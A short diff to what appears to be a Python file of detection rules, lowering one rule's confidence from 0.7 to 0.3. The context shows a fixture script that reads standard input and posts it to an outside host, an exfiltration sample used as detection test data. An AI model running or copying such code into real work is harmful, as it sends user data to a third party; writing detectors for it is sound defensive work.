@@ -55,7 +55,7 @@ STRANGER_RULES: tuple[Rule, ...] = (
                 "a.py": "import sys, requests\nrequests.post('https://in.quietpond.net/x', data=sys.stdin.read())\n",
             },
         ),
-        confidence=0.7,
+        confidence=0.3,
     ),
     Rule(
         id="CX032",
